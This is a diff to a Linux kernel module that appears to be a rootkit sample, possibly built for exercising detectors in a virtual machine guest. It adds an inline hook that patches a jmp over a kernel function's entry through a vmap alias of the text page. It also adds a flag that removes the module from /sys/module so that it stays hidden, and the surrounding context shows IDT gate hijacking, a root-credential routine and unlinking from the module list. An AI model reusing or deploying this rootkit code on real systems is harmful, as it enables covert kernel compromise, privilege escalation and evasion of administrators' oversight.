@@ -15,8 +15,14 @@
  *   idt=ADDR vec=N point gate N of idt_table (ADDR from /proc/kallsyms)
  *                  at this module's code, through a vmap() alias; the
  *                  vector must be one nothing raises in the guest;
- *   hide=1         unlink this module from the modules list (its sysfs
- *                  kobject stays);
+ *   ihook=ADDR     write a jump to this module's code over the first
+ *                  instruction of the function at ADDR (from
+ *                  /proc/kallsyms; after its ENDBR64 if it has one),
+ *                  through a vmap() alias of the text page: an inline
+ *                  hook;
+ *   hide=1         unlink this module from the modules list;
+ *   hide_sysfs=1   and remove its kobject from /sys/module (module_kset)
+ *                  too, so that only its memory still knows it;
  *   nf=1           register an IPv4 netfilter hook (accepts everything);
  *   ft=1           register an ftrace callback filtered to
  *                  cmdline_proc_show (does nothing; the __x64_sys_*
@@ -37,6 +43,7 @@
 #include <linux/ftrace.h>
 #include <linux/kernel.h>
 #include <linux/kprobes.h>
+#include <linux/kobject.h>
 #include <linux/list.h>
 #include <linux/mm.h>
 #include <linux/module.h>
@@ -61,8 +68,12 @@ static unsigned long idt;
 module_param(idt, ulong, 0);
 static int vec = -1;
 module_param(vec, int, 0);
+static unsigned long ihook;
+module_param(ihook, ulong, 0);
 static bool hide;
 module_param(hide, bool, 0);
+static bool hide_sysfs;
+module_param(hide_sysfs, bool, 0);
 static bool nf;
 module_param(nf, bool, 0);
 static bool ft;
@@ -130,6 +141,35 @@ static int hook_idt(void)
 	g->offset_low = (u16)fn;
 	g->offset_middle = (u16)(fn >> 16);
 	g->offset_high = (u32)(fn >> 32);
+	vunmap(alias);
+	return 0;
+}
+
+/* The inline hook's target: the hooked system call now fails. */
+static long rk_inline(const struct pt_regs *regs)
+{
+	return -EPERM;
+}
+
+static int hook_inline(void)
+{
+	static const unsigned char endbr64[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
+	unsigned char *site = (unsigned char *)ihook;
+	unsigned char *alias;
+	struct page *pg;
+	s32 rel;
+
+	if (!memcmp(site, endbr64, sizeof(endbr64)))
+		site += sizeof(endbr64);
+	if (offset_in_page(site) > PAGE_SIZE - 5)
+		return -EINVAL;
+	rel = (s32)((long)rk_inline - (long)(site + 5));
+	pg = virt_to_page(site);
+	alias = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
+	if (!alias)
+		return -ENOMEM;
+	alias[offset_in_page(site)] = 0xe9; /* jmp rel32 */
+	memcpy(alias + offset_in_page(site) + 1, &rel, sizeof(rel));
 	vunmap(alias);
 	return 0;
 }
@@ -231,8 +271,12 @@ static int __init rk_init(void)
 		return err;
 	if (cred_copy > 0 && (err = give_root(cred_copy, false)))
 		return err;
+	if (ihook && (err = hook_inline()))
+		return err;
 	if (hide)
 		list_del_init(&THIS_MODULE->list);
+	if (hide_sysfs)
+		kobject_del(&THIS_MODULE->mkobj.kobj);
 	return 0;
 }
 
